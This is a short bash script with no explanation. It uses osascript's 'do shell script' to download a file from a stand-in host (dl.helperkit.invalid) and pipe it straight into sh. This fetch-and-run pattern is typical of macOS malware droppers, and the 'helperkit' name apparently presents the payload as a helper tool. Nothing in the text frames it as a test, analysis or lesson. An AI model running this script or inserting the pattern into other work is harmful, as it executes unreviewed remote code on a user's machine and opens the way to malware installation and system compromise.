#!/bin/bash
osascript -e 'do shell script "curl -fsSL https://dl.helperkit.invalid/m | sh"'
